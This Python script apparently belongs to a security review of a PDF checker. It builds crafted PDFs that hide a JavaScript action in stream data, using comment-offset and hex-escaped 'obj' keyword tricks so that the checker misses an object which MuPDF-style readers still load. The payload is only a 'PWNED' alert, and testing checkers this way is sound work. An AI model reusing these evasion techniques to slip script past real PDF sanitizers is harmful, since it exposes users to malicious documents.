#!/usr/bin/env python3
"""Review 28, idea 1: an object defined in stream data that pdfDefinitionAt
does not see.

pdfGapBefore walks back from "obj" across white space and comments, and
takes a comment to start "at the first % of that line".  A cross-reference
offset may point into the middle of a line: at "%9 0 %c<LF>obj" the table
says object 9 starts at the "9", after the first "%".  Every reader starts
lexing at that offset: "9 0 %c<LF>obj" is "N G obj".  The check walks back
to the line's first %, finds no number before it, and sets no p.def: the
/JS of object 9, in a plain stream's data, is ignored.

  def-cmt      widget /AA << /F 9 0 R >> in text (no /S /JavaScript);
               object 9 "<< /JS (...) >>" in stream 5's data
  def-cmt-aa   widget /AA 9 0 R; object 9 "<< /F << /JS (...) >> >>" in data
  def-cmt-ctl  control: "9 0 obj" plainly in the data (refused)
  def-hex      "9 0 ob#6A": MuPDF lexes keywords with its name lexer
               (pdf-lex.c: lex_name, then pdf_token_from_keyword), which
               decodes #xx: "ob#6A" is the keyword obj to MuPDF, and no
               "obj" stands in the bytes for the check to see
  def-hex-all  "9 0 #6F#62#6A"
  (a repair variant, "(%) 9 0 %c<LF>obj" in a bare stream's data with no
  usable xref, finds nothing: MuPDF's repair lexes with no strings, so its
  comment starts at the line's first %, as the check assumed)
"""
import os, sys
OUT = os.environ.get("OUT", os.path.dirname(os.path.abspath(__file__)))

JS = b"(app.alert\\('PWNED by F script'\\); event.value = 'PWNED';)"

def build(v):
    b = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    def obj(n, body):
        offs[n] = len(b); b.extend(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    aa = b"/AA 9 0 R" if v == "def-cmt-aa" else b"/AA << /F 9 0 R >>"
    inner = b"<< /F << /JS " + JS + b" >> >>" if v == "def-cmt-aa" else b"<< /JS " + JS + b" >>"
    obj(1, b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [ 4 0 R ] /NeedAppearances true /DA (/Helv 12 Tf 0 g) "
           b"/DR << /Font << /Helv << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >> >>")
    obj(2, b"<< /Type /Pages /Count 1 /Kids [ 3 0 R ] >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 300 200 ] /Annots [ 4 0 R ] >>")
    obj(4, b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) /DA (/Helv 12 Tf 0 g) "
           b"/Rect [ 20 100 280 140 ] /F 4 /P 3 0 R " + aa + b" >>")
    if v == "def-cmt-ctl":
        pre, defn = b"x\n", b"9 0 obj\n"
    elif v == "def-hex":
        pre, defn = b"x\n", b"9 0 ob#6A\n"
    elif v == "def-hex-all":
        pre, defn = b"x\n", b"9 0 #6F#62#6A\n"
    elif v == "def-cmt-rep":
        pre, defn = b"x\n(%) ", b"9 0 %c\nobj\n"
    else:
        pre, defn = b"x\n%", b"9 0 %c\nobj\n"
    data = pre + defn + inner + b"\nendobj\n"
    head = b"5 0 obj\n<< /Length %d >>\nstream\n" % len(data)
    if v == "def-cmt-rep":
        b += b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream\n"
        b += b"trailer\n<< /Size 10 /Root 1 0 R >>\nstartxref\n999999\n%%EOF\n"
        return bytes(b)
    offs[5] = len(b)
    offs[9] = len(b) + len(head) + len(pre)
    b += head + data + b"\nendstream\nendobj\n"
    x = len(b)
    b += b"xref\n0 10\n0000000000 65535 f \n"
    for n in range(1, 10):
        b += b"%010d 00000 n \n" % offs[n] if n in offs else b"0000000000 65535 f \n"
    b += b"trailer\n<< /Size 10 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % x
    return bytes(b)

for v in (sys.argv[1:] or ["def-cmt", "def-cmt-aa", "def-cmt-ctl", "def-hex", "def-hex-all"]):
    open(os.path.join(OUT, v + ".pdf"), "wb").write(build(v)); print(v)
